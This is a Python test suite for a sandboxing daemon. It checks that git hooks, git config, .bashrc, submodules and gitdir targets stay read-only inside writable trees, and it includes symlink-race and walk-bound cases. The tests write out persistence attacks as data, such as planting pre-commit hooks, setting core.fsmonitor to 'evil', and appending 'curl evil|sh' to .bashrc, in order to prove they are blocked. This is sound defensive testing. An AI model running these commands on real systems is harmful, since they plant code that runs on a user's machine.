#!/usr/bin/env python3
"""Protected paths inside writable roots, attacked through the real cscd by a
real non-root user: git hooks and config, shell rc files, nested repositories,
submodules and `gitdir:` files stay read-only inside a declared writable
tree; only an explicit policy prefix plus the contract's own write path
unlocks one; races during the walk make root bind or create nothing
elsewhere; the walk's bounds fail closed.

Every attack checks that it really ran (the shell printed its error) and
that the host file is unchanged afterwards. Prints
`protected paths: N passed, N failed`. usage: test_protected.py PROBE"""
import base64, os, shutil, subprocess, sys, time, traceback

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "integration"))
import cscproto  # noqa: E402
import cscproto  # noqa: E402
from cscproto import Conn, Daemon, contract, ensure_user, mkwork  # noqa: E402

if os.geteuid() != 0:
    print("SKIP: the protected-path tests need root (cscd runs each command as the submitting user)")
    sys.exit(77)
if not shutil.which("git"):
    print("SKIP: git is not installed (tests/deps.sh installs it)")
    sys.exit(77)
UID, GID = ensure_user()
WORK = mkwork("csc-prot.")
PROBE = os.path.join(WORK, "csc-probe")
shutil.copy(sys.argv[1], PROBE)
os.chmod(PROBE, 0o755)
TOOLS = "git, mv, rm, mkdir, ln, cp"
EVIL = "#!/bin/sh\necho planted\n"


def as_user(fn):
    cscproto.as_user(UID, GID, fn, home=WORK)


def user_git(*args, cwd=None):
    """Real git, run as the test user on the host."""
    def fn():
        subprocess.run(["git", "-c", "init.defaultBranch=main", "-c", "user.name=t", "-c", "user.email=t@e",
                        "-c", "protocol.file.allow=always", *args], cwd=cwd, check=True, capture_output=True)
    as_user(fn)


def user_dir(name):
    d = os.path.join(WORK, name)
    os.mkdir(d, 0o755)
    os.chown(d, UID, GID)
    return d


def write_as_user(path, text):
    def fn():
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
    as_user(fn)


def run(d, script, write, read=(), cwd=None):
    conn = Conn(d.sock, UID, GID, timeout=120)
    conn.send({"type": "submit", "contract": contract([{"argv": ["sh", "-c", script], "write": list(write),
                                                         "read": list(read), "cwd": cwd or write[0],
                                                         "effect": "transform_local", "timeout": 60}])})
    frames = conn.recv_until_receipt()
    conn.close()
    out = b"".join(base64.b64decode(f["data"]) for f in frames if f["type"] == "output" and f["stream"] == "stdout")
    err = b"".join(base64.b64decode(f["data"]) for f in frames if f["type"] == "output" and f["stream"] == "stderr")
    assert frames[-1]["type"] == "receipt", frames[-1]
    return frames[-1]["receipt"], out.decode(errors="replace"), err.decode(errors="replace")


def read(path):
    with open(path) as f:
        return f.read()


def make_repo(name):
    repo = user_dir(name)
    user_git("init", "-q", repo)
    write_as_user(os.path.join(repo, "README"), "hello\n")
    user_git("-C", repo, "add", "README")
    user_git("-C", repo, "commit", "-q", "-m", "first")
    return repo


cases = []


def case(fn):
    cases.append(fn)
    return fn


@case
def pre_commit_hook_cannot_be_created_but_git_still_works(d):
    repo = make_repo("repo-hook")
    hook = os.path.join(repo, ".git", "hooks", "pre-commit")
    r, out, err = run(d, "echo changed > README && git add README && "
                         "git -c user.name=a -c user.email=a@b commit -q -m second && echo COMMITTED; "
                         "printf '%s' \"$0\" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit; "
                         "echo HOOK=$?", [repo])
    assert "COMMITTED" in out, (out, err, r)          # the repository itself stays writable
    assert "HOOK=" in out and "HOOK=0" not in out, (out, err)
    assert "Read-only file system" in err, err        # the attempt ran and the kernel refused it
    assert not os.path.exists(hook), "a hook was planted on the host"
    log = subprocess.run(["git", "-c", "safe.directory=*", "-C", repo, "log", "--oneline"], capture_output=True,
                         text=True).stdout
    assert "second" in log, log


@case
def renaming_git_away_to_rebuild_it_fails(d):
    """The directories between the writable root and a protected path are
    pinned: moving .git aside and building a new one with a hook fails."""
    repo = make_repo("repo-rename")
    r, out, err = run(d, "mv .git .git-old; echo MV=$?; mkdir -p .git/hooks 2>/dev/null; "
                         "echo x > .git/hooks/post-checkout; echo W=$?", [repo])
    assert "MV=" in out and "MV=0" not in out, (out, err)
    assert "busy" in err.lower(), err
    assert os.path.isdir(os.path.join(repo, ".git", "objects")) and not os.path.exists(repo + "/.git-old")
    assert not os.path.exists(os.path.join(repo, ".git", "hooks", "post-checkout"))


@case
def git_config_cannot_be_changed(d):
    repo = make_repo("repo-config")
    cfg = os.path.join(repo, ".git", "config")
    before = read(cfg)
    r, out, err = run(d, "git config core.fsmonitor 'sh -c evil'; echo GIT=$?; "
                         "echo '[core] pager = evil' >> .git/config; echo APPEND=$?; "
                         "rm -f .git/config; echo RM=$?; mv .git/config .git/c2; echo MV=$?", [repo])
    for k in ("GIT", "APPEND", "RM", "MV"):
        assert k + "=" in out and k + "=0" not in out, (k, out, err)
    assert read(cfg) == before, "the host .git/config changed"


@case
def bashrc_cannot_be_changed_and_the_receipt_names_it(d):
    home = user_dir("home")
    rc = os.path.join(home, ".bashrc")
    write_as_user(rc, "# mine\n")
    write_as_user(os.path.join(home, "notes.txt"), "n\n")
    r, out, err = run(d, "echo ok >> notes.txt && echo NOTES; echo 'curl evil|sh' >> .bashrc; echo A=$?; "
                         "rm -f .bashrc; echo RM=$?; mv .bashrc x; echo MV=$?; "
                         "echo 'curl evil|sh' >> .bashrc", [home])
    assert "NOTES" in out, (out, err)
    for k in ("A", "RM", "MV"):
        assert k + "=" in out and k + "=0" not in out, (k, out, err)
    assert read(rc) == "# mine\n" and read(os.path.join(home, "notes.txt")) == "n\nok\n"
    # The command failed on the protected file: the receipt's error (and the
    # journal line of that receipt) names it.
    assert r["status"] == "failed" and rc in (r.get("error") or ""), r
    logged = [x["receipt"] for x in d.receipts() if x["receipt"].get("execution_id") == r["execution_id"]]
    assert logged and rc in (logged[0].get("error") or ""), logged   # receipts.jsonl (the journal gets the same line)


@case
def nested_repo_and_submodule_are_protected(d):
    top = make_repo("repo-top")
    inner = os.path.join(top, "a", "b", "c", "inner")
    as_user(lambda: os.makedirs(inner))
    user_git("init", "-q", inner)
    sub_src = make_repo("repo-subsrc")
    user_git("-C", top, "submodule", "add", "-q", sub_src, "sub")
    modhooks = os.path.join(top, ".git", "modules", "sub", "hooks")
    assert os.path.isdir(modhooks) and os.path.isfile(os.path.join(top, "sub", ".git"))
    gm = read(os.path.join(top, ".gitmodules"))
    r, out, err = run(d, "echo x > a/b/c/inner/.git/hooks/pre-commit; echo INNER=$?; "
                         "echo x > .git/modules/sub/hooks/pre-commit; echo MOD=$?; "
                         "echo '[core] fsmonitor = evil' >> .git/modules/sub/config; echo MODCFG=$?; "
                         "echo x >> .gitmodules; echo GM=$?; mv a a2; echo MVA=$?; "
                         "echo ok > a/b/c/inner/file && echo INNERFILE", [top])
    for k in ("INNER", "MOD", "MODCFG", "GM", "MVA"):
        assert k + "=" in out and k + "=0" not in out, (k, out, err)
    assert "INNERFILE" in out, (out, err)
    assert not os.path.exists(os.path.join(inner, ".git", "hooks", "pre-commit"))
    assert not os.path.exists(os.path.join(modhooks, "pre-commit"))
    assert "evil" not in read(os.path.join(top, ".git", "modules", "sub", "config"))
    assert read(os.path.join(top, ".gitmodules")) == gm


@case
def gitdir_file_target_inside_the_root_is_protected(d):
    """A `.git` file naming a directory that does not look like a repository
    (no objects/, refs/): only the gitdir line leads there."""
    root = user_dir("gitfile")
    odd = os.path.join(root, "store", "odd")
    write_as_user(os.path.join(odd, "hooks", "pre-commit.sample"), "#\n")
    write_as_user(os.path.join(odd, "config"), "[core]\n")
    write_as_user(os.path.join(root, "wt", ".git"), "gitdir: ../store/odd\n")
    # and a real separate git dir made by git
    user_git("init", "-q", "--separate-git-dir=" + os.path.join(root, "store", "real.git"),
             os.path.join(root, "wt2"))
    r, out, err = run(d, "echo x > store/odd/hooks/pre-commit; echo HOOK=$?; echo x >> store/odd/config; "
                         "echo CFG=$?; echo x > store/real.git/hooks/pre-commit; echo REAL=$?; "
                         "echo ok > store/other && echo OTHER", [root])
    for k in ("HOOK", "CFG", "REAL"):
        assert k + "=" in out and k + "=0" not in out, (k, out, err)
    assert "OTHER" in out, (out, err)
    assert read(os.path.join(odd, "config")) == "[core]\n"
    assert not os.path.exists(os.path.join(odd, "hooks", "pre-commit"))


def unlock_daemon(prefixes):
    orig = cscproto.TEST_POLICY
    cscproto.TEST_POLICY = orig.replace("allowed_write_prefixes: [/tmp, /srv]",
                                        "allowed_write_prefixes: [/tmp, /srv, %s]" % ", ".join(prefixes))
    try:
        return Daemon(policy_extra=TOOLS)
    finally:
        cscproto.TEST_POLICY = orig


@case
def explicit_policy_and_contract_unlock_exactly_one_path(d):
    repo = make_repo("repo-unlock")
    write_as_user(os.path.join(repo, ".bashrc"), "# rc\n")
    hooks = os.path.join(repo, ".git", "hooks")
    cfg = os.path.join(repo, ".git", "config")
    before = read(cfg)
    # The default policy's /srv prefix is a parent: declaring the hooks dir
    # as a write path does not unlock it.
    r, out, err = run(d, "echo x > .git/hooks/pre-commit; echo P=$?", [repo, hooks])
    assert "P=" in out and "P=0" not in out, (out, err)
    d2 = unlock_daemon([hooks])
    try:
        # the policy names it but the contract does not declare it: still read-only
        r, out, err = run(d2, "echo x > .git/hooks/pre-commit; echo P=$?", [repo])
        assert "P=" in out and "P=0" not in out, (out, err)
        # both: exactly that path opens; config, .bashrc stay read-only
        r, out, err = run(d2, "echo '#!/bin/sh' > .git/hooks/pre-commit; echo P=$?; "
                              "echo x >> .git/config; echo C=$?; echo x >> .bashrc; echo B=$?; "
                              "git config core.pager evil; echo G=$?", [repo, hooks])
        assert "P=0" in out, (out, err)
        for k in ("C", "B", "G"):
            assert k + "=" in out and k + "=0" not in out, (k, out, err)
        assert os.path.exists(os.path.join(hooks, "pre-commit")) and read(cfg) == before
        assert read(os.path.join(repo, ".bashrc")) == "# rc\n"
        # a path inside the protected one, named by both: only that file opens
        r, out, err = run(d2, "echo '# mine' >> .git/hooks/pre-commit; echo F=$?; "
                              "echo x > .git/hooks/pre-push; echo N=$?", [repo, os.path.join(hooks, "pre-commit")])
        assert "F=0" in out and "N=" in out and "N=0" not in out, (out, err)
        assert not os.path.exists(os.path.join(hooks, "pre-push"))
    finally:
        d2.stop()
    d3 = unlock_daemon([os.path.join(hooks, "pre-commit")])
    try:
        # the policy names the file, the contract declares the whole hooks dir: only the file would
        # qualify, and the contract did not declare it, so nothing opens
        r, out, err = run(d3, "echo x >> .git/hooks/pre-commit; echo F=$?; echo x > .git/hooks/post-merge; "
                              "echo N=$?", [repo, hooks])
        for k in ("F", "N"):
            assert k + "=" in out and k + "=0" not in out, (k, out, err)
    finally:
        d3.stop()


@case
def repository_without_hooks_dir_is_blocked(d):
    """A missing .git/hooks could be created and filled: such a repository is
    refused with what to do, and runs once the directory exists."""
    repo = make_repo("repo-nohooks")
    shutil.rmtree(os.path.join(repo, ".git", "hooks"))
    r, out, err = run(d, "mkdir .git/hooks && echo x > .git/hooks/pre-commit; echo RAN", [repo])
    assert r["status"] == "blocked" and "no hooks directory" in r["error"] and "RAN" not in out, r
    assert not os.path.exists(os.path.join(repo, ".git", "hooks"))
    as_user(lambda: os.mkdir(os.path.join(repo, ".git", "hooks")))
    r, out, err = run(d, "echo x > .git/hooks/pre-commit; echo P=$?", [repo])
    assert "P=" in out and "P=0" not in out, (out, err)


@case
def symlinked_protected_name_is_blocked(d):
    home = user_dir("home-link")
    write_as_user(os.path.join(home, "dotfiles", "bashrc"), "# rc\n")
    as_user(lambda: os.symlink("dotfiles/bashrc", os.path.join(home, ".bashrc")))
    r, out, err = run(d, "echo evil >> .bashrc", [home])
    assert r["status"] == "blocked" and "symlink" in r["error"] and ".bashrc" in r["error"], r
    assert read(os.path.join(home, "dotfiles", "bashrc")) == "# rc\n"


@case
def walk_races_make_root_bind_or_create_nothing_elsewhere(d):
    """While two host processes swap a directory holding a protected name with
    a symlink to a root-owned directory (RENAME_EXCHANGE, in a loop),
    contracts are submitted with the race tree writable. Root must never
    create anything in the target or mount anything on the host; contracts
    either run or are blocked with a reason."""
    race = user_dir("race")
    target = os.path.join(WORK, "race-target")   # root-owned: the user cannot write here
    os.mkdir(target, 0o755)
    with open(os.path.join(target, ".bashrc"), "w") as f:
        f.write("root's\n")
    for k in "ab":
        write_as_user(os.path.join(race, k, "x", ".bashrc"), "# rc\n")
        as_user(lambda k=k: os.makedirs(os.path.join(race, k, "x", ".git", "hooks")))
        as_user(lambda k=k: os.symlink(target, os.path.join(race, k, "y")))
    drop = lambda: (os.setgroups([]), os.setresgid(GID, GID, GID), os.setresuid(UID, UID, UID))  # noqa: E731
    flippers = [subprocess.Popen([PROBE, "flip", os.path.join(race, k, "x"), os.path.join(race, k, "y"), "10"],
                                 stdout=subprocess.PIPE, text=True, preexec_fn=drop) for k in "ab"]
    outcomes, n = {}, 0
    deadline = time.monotonic() + 8
    while time.monotonic() < deadline and n < 200:
        r, out, err = run(d, "true", [race])
        key = r["status"] if r["status"] != "blocked" else "blocked: " + r["error"].split(":")[1][:40]
        outcomes[key] = outcomes.get(key, 0) + 1
        n += 1
    swaps = " ".join(fl.communicate(timeout=30)[0].strip() for fl in flippers)
    assert sorted(os.listdir(target)) == [".bashrc"], os.listdir(target)
    assert read(os.path.join(target, ".bashrc")) == "root's\n"
    assert target not in read("/proc/self/mountinfo") and race not in read("/proc/self/mountinfo")
    assert swaps.count("swapped") == 2, swaps
    assert n >= 10 and any(k.startswith("blocked") for k in outcomes), (n, outcomes)
    print("  race outcomes over %d submits: %s (%s)" % (n, outcomes, swaps))


def bound_daemon(setting):
    return Daemon(policy_extra=TOOLS, config_extra=setting)


@case
def walk_bounds_fail_closed_with_a_reason(d):
    wide = user_dir("wide")
    as_user(lambda: [open(os.path.join(wide, "f%03d" % i), "w").close() for i in range(120)])
    deep = user_dir("deep")
    as_user(lambda: os.makedirs(os.path.join(deep, "1", "2", "3", "4", "5")))
    d2 = bound_daemon("protected_walk_max_entries: 50\nprotected_walk_max_depth: 3\n")
    try:
        r, out, err = run(d2, "echo RAN", [wide])
        assert r["status"] == "blocked" and "protected_walk_max_entries" in r["error"] and "RAN" not in out, r
        r, out, err = run(d2, "echo RAN", [deep])
        assert r["status"] == "blocked" and "protected_walk_max_depth" in r["error"] and "RAN" not in out, r
        small = user_dir("small")
        r, out, err = run(d2, "echo RAN", [small])
        assert r["status"] == "success" and "RAN" in out, r   # under the bounds, it runs
    finally:
        d2.stop()


@case
def protection_off_when_the_admin_empties_the_list(d):
    """protected_paths: [] turns the rule off (documented); the same attack
    as the first case then succeeds: proof the attack is real."""
    repo = make_repo("repo-off")
    d2 = Daemon(policy_extra=TOOLS, config_extra_raw="protected_paths: []\n")
    try:
        r, out, err = run(d2, "echo x > .git/hooks/pre-commit; echo HOOK=$?", [repo])
        assert "HOOK=0" in out, (out, err)
    finally:
        d2.stop()


def main():
    d = Daemon(policy_extra=TOOLS)
    passed = failed = 0
    try:
        for fn in cases:
            try:
                fn(d)
                passed += 1
                print("ok", fn.__name__)
            except Exception:  # noqa: BLE001
                failed += 1
                print("FAIL", fn.__name__)
                traceback.print_exc(file=sys.stdout)
            if d.proc.poll() is not None:
                failed += 1
                print("FAIL the daemon died\n" + d.logtext()[-2000:])
                break
    finally:
        d.stop()
    if d.returncode != 0:   # a sanitizer report (leak, UB) makes the clean stop fail
        failed += 1
        print("FAIL cscd did not stop cleanly (%s)\n%s" % (d.returncode, d.final_log[-3000:]))
    shutil.rmtree(WORK, ignore_errors=True)
    print("protected paths: %d passed, %d failed" % (passed, failed))
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
